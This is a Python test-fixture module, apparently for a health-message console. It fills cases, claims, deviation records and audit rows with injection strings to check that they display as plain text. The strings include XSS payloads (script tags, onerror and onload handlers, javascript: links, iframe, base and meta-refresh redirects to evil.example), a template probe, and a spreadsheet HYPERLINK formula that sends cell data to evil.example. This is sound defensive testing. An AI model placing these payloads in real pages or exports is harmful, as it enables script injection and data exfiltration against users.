"""Texts that would be markup, script, a formula or a header, wherever somebody forgot that they are texts."""

from typing import Any

from builders import TROMSO, UNN, innlagt_xml
from cases import AT, case
from console_letters import keep
from consoles import START, Browser
from store_contract import avvik, claim

from adapters.store import audit, claims
from adapters.store import avvik as avvik_rows
from adapters.store.cases import Case
from adapters.store.claims import Claim
from schemas.avvik import Avvik

MARK = "\"'><img src=x onerror=alert(1)><svg/onload=alert(2)></textarea><script>alert(3)</script>{{7*7}}"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
LINK = "javascript:alert(4)"
TEXTS = (MARK, FORMULA, LINK)
HTML = "http://www.w3.org/1999/xhtml"
ALIVE = (
    f'<p xmlns="{HTML}" onclick="alert(5)" style="background:url(http://evil.example/a)">synlig tekst'
    "<script>alert(6)</script><img src='x' onerror='alert(7)'/><a href='javascript:alert(8)'>lenke</a>"
    "<iframe src='http://evil.example/'/><form action='http://evil.example/'><input autofocus=''"
    " onfocus='alert(9)'/></form><svg xmlns='http://www.w3.org/2000/svg' onload='alert(10)'>"
    "<script>alert(11)</script><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(12)'/>"
    "</foreignObject></svg><math><mtext/></math><object data='http://evil.example/'/><style>*{}</style>"
    "<base href='http://evil.example/'/><meta http-equiv='refresh' content='0;url=http://evil.example/'/></p>"
)
"""XHTML as a sender may write it, where a message has room for it."""


def spoilt() -> bytes:
    """A message that the schema refuses, with all of it in elements, attributes, comments and CDATA."""
    raw = innlagt_xml(msg_id="6f1c7a1e-2c0b-4b0e-9d55-0c7f6c1e0a11", sender=UNN, receiver=TROMSO)
    shown = MARK.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    unseen = f"<!-- {MARK} --><![CDATA[{MARK}]]><?php {MARK}?>"
    inside = f'<Tull a="{shown}">{shown}{unseen}{ALIVE}</Tull>'
    return raw.replace(b"<MsgInfo>", b"<MsgInfo>" + inside.encode(), 1)


def letters(text: str) -> list[Case]:
    """Cases in which every text is this one, but for what is a key."""
    of = {name: text for name, value in case(1)._asdict().items() if isinstance(value, str)}
    whole = {"dlq_id": case(1).dlq_id, "state": "apen", "changed_at": AT}
    door = {
        "reader": "receive",
        "topic": "meldinger.v1",
        "error_class": "PERMANENT_FORMAT",
        "code": "xsd.missing",
    }
    return [case(1, **{**of, **whole}), case(2, message=text, place=text, **door)]


def claimed(text: str) -> list[Claim]:
    """Messages in which what a sender says is this."""
    inside = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    space = "http://www.kith.no/xmlstds/apprec/2004-11-21"
    apprec = f'<AppRec xmlns="{space}"><Error V="{inside}" DN="{inside}"/></AppRec>'
    odd: dict[str, Any] = {"source": text, "message_type": text, "variant": "", "claimed_at": START}
    return [
        claim(1)._replace(
            verdict="avvist", receipts=apprec.encode(), sender=text, receivers=f"{text},90101", **odd
        )
    ]


def found(text: str) -> Avvik:
    """An avvik with this wherever it takes a text."""
    told = {
        "text": text,
        "hvorfor": text,
        "behandlet_av": text,
        "category": text,
        "subject": text,
        "reason": text,
    }
    return avvik(1).model_copy(update={**told, "msg_ids": (text, str(avvik(1).stay_id))})


async def fill(browser: Browser, text: str) -> None:
    """All of it in the store, and lines of the audit log."""
    store, one = browser.desk.store, found(text)
    await keep(browser, letters(text))
    await claims.take(store, claimed(text))
    async with store.begin() as conn:
        await avvik_rows.upsert(conn, [(one, one.model_dump_json())])
        await audit.note(conn, START, text, text, text, text)
